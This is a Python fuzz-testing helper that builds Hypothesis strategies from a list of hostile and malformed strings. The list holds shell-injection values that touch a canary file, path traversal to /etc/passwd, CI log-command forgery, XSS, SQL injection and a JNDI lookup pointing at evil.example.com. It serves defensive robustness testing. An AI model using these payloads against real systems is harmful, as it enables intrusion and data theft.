"""What hostile and broken input is made of, and how much of it a run tries: `make fuzz` tries FUZZ times as much."""

import os
import re
import string

import pytest
from hypothesis import HealthCheck, settings
from hypothesis import strategies as st

_times = os.environ.get("FUZZ") or "1"
if not re.fullmatch("[1-9][0-9]{0,3}", _times):
    pytest.exit(f"FUZZ = {_times!a}: it is not a whole number from 1 to 9999; make fuzz TIMES=100", returncode=2)
TIMES = int(_times)

NASTY = (
    "",
    " ",
    "\x00",
    "\x1b[2J\x1b[31mred",
    "\x1b]0;title\x07",
    "\r\nSet-Cookie: a=b",
    "\n::error::forged",
    "\n##[add-mask]x",
    "::set-output name=image::x",
    "$(touch canary)",
    "`touch canary`",
    "'; touch canary; '",
    '"; touch canary; "',
    "| touch canary",
    "&& touch canary",
    "$(shell touch canary)",
    "${IFS}touch${IFS}canary",
    "--upload-pack=touch canary",
    "-x",
    "--",
    "../../../etc/passwd",
    "/dev/stdin",
    "CON",
    "@everyone",
    "#1",
    "<script>alert(1)</script>",
    "<img src=https://evil.example.com/x.png>",
    "![x](https://evil.example.com/x.png)",
    "[x]: https://evil.example.com",
    "````\nout of the fence",
    "<!-- helloworld:section check 000000000000 -->",
    "</details>",
    "{{7*7}}",
    "${jndi:ldap://evil.example.com}",
    "%s%s%n",
    "%00",
    "' OR 1=1 --",
    "\u202egnp.exe",
    "\u200b\u200d\ufeff",
    "\u2028\u2029\x85",
    "e\u0301" * 40,
    "\u0627\u0644\u0639\u0631\u0628\u064a\u0629",
    "hell\u043eworld",
    "\ud800",
    "\udcff",
    "\U0001f469\u200d\U0001f680",
    "\uff19\uff19",
    "1e400",
    "NaN",
    "9" * 300,
    "a" * 300,
)
nasty = st.sampled_from(NASTY)
# Letters that mean something to a shell, YAML, JSON, Markdown, HTTP or a terminal, and any others.
texts = (
    nasty
    | st.text(st.sampled_from(string.punctuation + string.whitespace + "aZ09é\x00\x1b\u202e\u200b\ud800"), max_size=40)
    | st.text(st.characters(exclude_categories=()), max_size=40)
    | st.tuples(nasty, st.text(max_size=5), nasty).map("".join)
)


def many(examples: int) -> settings:
    """So many examples, however long one takes on a busy machine."""
    return settings(
        max_examples=examples * TIMES,
        deadline=None,
        suppress_health_check=[HealthCheck.too_slow, HealthCheck.large_base_example, HealthCheck.data_too_large],
    )
